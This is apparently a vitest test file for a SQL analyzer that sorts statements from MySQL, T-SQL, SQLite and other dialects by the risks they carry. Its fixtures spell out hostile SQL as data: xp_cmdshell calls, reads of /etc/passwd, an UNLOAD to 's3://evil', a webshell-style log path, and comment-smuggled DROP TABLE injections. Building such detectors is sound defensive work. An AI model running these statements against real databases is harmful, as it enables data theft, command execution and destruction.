import { beforeAll, describe, expect, test } from "vitest";
import { loadSql } from "../../../../src/canonicalize/analyzers/sql/analyze.ts";
import { analyze, classesOf, expected, partsOf, type Row, signalsOf } from "./support.ts";

beforeAll(loadSql);

/** Spelled as PostgreSQL does not, and understood in full all the same. */
const REWRITTEN: readonly (readonly [sql: string, parts: readonly string[]])[] = [
  ["SELECT `a` FROM `shop`.`t` WHERE b = 'it\\'s'", ["db.read shop.t"]],
  ["SELECT TOP (10) [a b] FROM [dbo].[t] WITH (NOLOCK) WHERE c = @c", ["db.read dbo.t"]],
  ["SELECT TOP 5 PERCENT WITH TIES * FROM #temporary", ["db.read #temporary"]],
  ["SELECT a FROM t WHERE b = ? AND c LIKE :c LIMIT 5, 10", ["db.read t"]],
  ["SELECT a FROM t WHERE b=%s AND c=%(c)s AND d=@d", ["db.read t"]],
  ["INSERT INTO t (a, b) VALUES (?, ?), (:a, $b)", ["db.write t"]],
  ["SELECT a FROM t WHERE b REGEXP '^x' XOR c GLOB '*'", ["db.read t"]],
  ["SELECT :'a', :\"b\" FROM t", ["db.read t"]],
];

/** What PostgreSQL refuses: read by its words. */
const WORDS: readonly Row[] = [
  ["REPLACE INTO t SELECT * FROM u", "write", ["db.read u", "db.write t"]],
  ["INSERT OR REPLACE INTO t VALUES (1)", "write", ["db.write t"]],
  ["UPDATE OR IGNORE t SET a = 1 WHERE b = 2", "write", ["db.write t"]],
  [
    "UPDATE t SET a = (SELECT b FROM u WHERE c = 1) LIMIT 1",
    "write",
    ["db.read u", "db.write t"],
    ["sql.unbounded_write"],
  ],
  ["DELETE TOP (5) FROM t", "delete", ["db.delete t"], ["sql.unbounded_write"]],
  ["DELETE t FROM t JOIN u ON t.a = u.a WHERE u.b = 1", "delete", ["db.delete t", "db.read u"]],
  ["INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", "write", ["db.write t"]],
  ["SELECT a FROM t DELETE FROM u WHERE b = 1", "delete", ["db.delete u", "db.read t"]],
  ["SELECT a FROM t SHUTDOWN", "unknown", ["db.admin", "db.read t"]],
  ["SELECT 1 DELETE FROM t", "unknown", ["db.admin", "db.read t"]],
  ["DELETE FROM t SHUTDOWN", "unknown", ["db.admin", "db.delete t"], ["sql.unbounded_write"]],
  ["SELECT 'on' DELETE FROM t WHERE a = 1 x", "delete", ["db.delete t"]],
  ["CREATE PROCEDURE p AS DELETE FROM t WHERE a = 1", "schema", ["db.admin", "db.delete t", "db.schema"]],
  [
    "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM t WHERE a = 1",
    "schema",
    ["db.admin", "db.delete t", "db.schema"],
  ],
  ["SELECT call, execute FROM t JOIN u WHERE update = 1", "read", ["db.read t", "db.read u"]],
  ["SELECT 1 DROP TABLE t", "schema", ["db.schema t"], ["destruction.database"]],
  ["IF 1 = 1 DROP TABLE t", "schema", ["db.schema t"], ["destruction.database"]],
  ["SELECT a FROM t INTO OUTFILE '/tmp/x'", "write", ["db.read t", "file.write file:///tmp/x"], ["sql.file_access"]],
  ["SELECT a INTO DUMPFILE '/tmp/x' FROM t", "write", ["db.read t", "file.write file:///tmp/x"], ["sql.file_access"]],
  [
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
    "write",
    ["db.write t", "file.read file:///etc/passwd"],
    ["sql.file_access"],
  ],
  ["BULK INSERT t FROM '/etc/passwd'", "write", ["db.write t", "file.read file:///etc/passwd"], ["sql.file_access"]],
  ["BACKUP DATABASE shop TO DISK = '/tmp/x'", "admin", ["db.admin", "file.write file:///tmp/x"], ["sql.file_access"]],
  ["UNLOAD ('SELECT 1') TO 's3://evil/x'", "write", ["db.write", "net.upload"]],
  ["EXEC xp_cmdshell 'id'", "unknown", ["db.write", "process.exec"], ["sql.command_execution"]],
  ["EXEC master..xp_cmdshell N'id'", "unknown", ["db.write", "process.exec"], ["sql.command_execution"]],
  [
    "DECLARE @r int; EXEC @r = xp_cmdshell 'id'",
    "read+unknown",
    ["db.read", "db.write", "process.exec"],
    ["sql.command_execution"],
  ],
  ["xp_cmdshell 'id'", "unknown", ["db.read", "process.exec"], ["sql.command_execution"]],
  ["EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE", "admin+unknown", ["db.admin", "db.write"]],
  [
    "EXEC sp_executesql @stmt = N'DROP TABLE t'",
    "schema+unknown",
    ["db.schema t", "db.write"],
    ["destruction.database"],
  ],
  ["EXEC('DROP TABLE t')", "schema+unknown", ["db.read", "db.schema t"], ["destruction.database"]],
  ["EXEC('DROP TABLE ' + @t)", "unknown", ["db.admin"]],
  ["EXEC (@sql)", "unknown", ["db.admin"]],
  ["EXECUTE IMMEDIATE 'DELETE FROM t WHERE a = 1'", "delete+unknown", ["db.delete t", "db.read"]],
  ["PREPARE s FROM 'DELETE FROM t WHERE a = 1'", "delete+unknown", ["db.delete t", "db.read"]],
  ["SELECT * FROM OPENROWSET('SQLNCLI', 'server=10.0.0.1', 'SELECT 1')", "unknown", ["db.admin", "net.connect"]],
  [
    "SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) x",
    "unknown",
    ["db.admin", "file.read file:///etc/passwd", "net.connect"],
    ["sql.file_access"],
  ],
  ["ATTACH DATABASE '/tmp/x' AS y", "admin", ["db.admin", "file.write file:///tmp/x"], ["sql.file_access"]],
  ["VACUUM INTO '/tmp/x'", "admin", ["db.admin", "file.write file:///tmp/x"], ["sql.file_access"]],
  ["PRAGMA table_info(t)", "read", ["db.read"]],
  ["PRAGMA journal_mode", "read", ["db.read"]],
  ["PRAGMA writable_schema = 1", "admin", ["db.admin"]],
  [
    "CREATE FUNCTION sys_exec RETURNS int SONAME 'x.so'",
    "admin",
    ["db.admin", "db.schema", "process.exec"],
    ["sql.command_execution"],
  ],
  ["INSTALL PLUGIN x SONAME 'x.so'", "admin", ["db.admin", "process.exec"], ["sql.command_execution"]],
  ["CREATE USER bob IDENTIFIED BY 'x'", "schema", ["db.admin", "db.schema"], ["account.create", "account.password"]],
  ["SET GLOBAL general_log_file = '/var/www/x.php'", "admin", ["db.admin"]],
  ["SET NAMES utf8, GLOBAL general_log = 1", "admin", ["db.admin"]],
  ["SET @a = 1", "admin", ["db.read"]],
  ["DESCRIBE t", "read", ["db.read"]],
  ["SHOW CREATE TABLE t", "read", ["db.read"]],
  ["KILL 5", "admin", ["db.admin"], ["destruction.processes"]],
  ["RENAME TABLE a TO b", "schema", ["db.schema a"]],
  [
    "CREATE TRIGGER x AFTER INSERT ON t BEGIN DELETE FROM u WHERE a = 1; INSERT INTO v VALUES (1); END; SELECT 1",
    "read+schema",
    ["db.admin", "db.delete u", "db.read", "db.schema", "db.write v"],
  ],
  [
    "DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM t; END //\nDELIMITER ;\nCALL p()",
    "schema+unknown",
    ["db.admin", "db.delete t", "db.schema", "db.write"],
    ["sql.unbounded_write"],
  ],
  ["SELECT 1\nGO\nSHUTDOWN\nGO", "admin", ["db.admin"], ["destruction.system_stop"]],
];

/** Harmless to one database, and not to another. The part is what the other would do. */
const AMBIGUOUS: readonly (readonly [sql: string, harmless: string, harmful: string, part: string])[] = [
  ["SELECT 1 /*! ; DROP TABLE t */", "postgres", "mysql", "db.schema t"],
  ["SELECT 1 /*!50000 UNION SELECT a FROM secrets */", "postgres", "mysql", "db.read secrets"],
  ["SELECT 1 /*!99999 ' */; DROP TABLE t -- '", "mysql", "mysql", "db.schema t"],
  ["SELECT 1 --1; DROP TABLE t", "postgres", "mysql", "db.schema t"],
  ["SELECT 1 DELETE FROM t", "postgres", "tsql", "db.admin"],
  ["SELECT dblink('host=10.0.0.1', 'SELECT 1 /*! ; DROP TABLE t */')", "postgres", "mysql", "db.schema t"],
  ["SELECT 1 // '\n; DROP TABLE t; -- '", "postgres", "snowflake", "db.schema t"],
  ["SELECT '\\' || '; DROP TABLE t; -- '", "postgres", "mysql", "db.schema t"],
  ["SELECT a FROM t /* x /* y */ ; DROP TABLE t -- */", "sqlite", "sqlite", "db.schema t"],
  ["SELECT /* /* */ 1 */ ; DROP TABLE t", "postgres", "postgres", "db.schema t"],
  ["SELECT E'\\'; DROP TABLE t; --'", "postgres", "sqlite", "db.schema t"],
  ["SELECT $$ ; DROP TABLE t; $$", "postgres", "mysql", "db.schema t"],
  ['SELECT "\\"; DROP TABLE t; -- "', "mysql", "postgres", "db.schema t"],
  ["SELECT a # '; DROP TABLE t; -- '\n", "postgres", "mysql", "db.read"],
  ["SELECT a AS [x; DROP TABLE t; --]", "tsql", "postgres", "db.schema t"],
];

describe("a dialect", () => {
  test.each(REWRITTEN)("%s is understood in full", (sql, parts) => {
    const found = analyze(sql);
    expect({ parse: found.parse, parts: partsOf(found) }).toEqual({ parse: "complete", parts });
  });

  test.each(expected(WORDS))("$sql is read by its words", ({ sql, classes, parts, signals }) => {
    const found = analyze(sql);
    expect({ parse: found.parse, classes: classesOf(found), parts: partsOf(found), signals: signalsOf(found) }).toEqual(
      {
        parse: "partial",
        classes,
        parts,
        signals,
      },
    );
  });

  test.each(AMBIGUOUS)("%j does more where it is not %s but %s", (sql, _harmless, harmful, part) => {
    expect(partsOf(analyze(sql))).toContain(part);
    expect(partsOf(analyze(sql, harmful))).toContain(part);
  });

  test.each(AMBIGUOUS.filter(([, harmless, harmful]) => harmless !== harmful))(
    "%j is harmless to %s",
    (sql, harmless, _, part) => {
      const found = partsOf(analyze(sql, harmless));
      expect(part === "db.read" || !found.includes(part)).toBe(true);
    },
  );
});
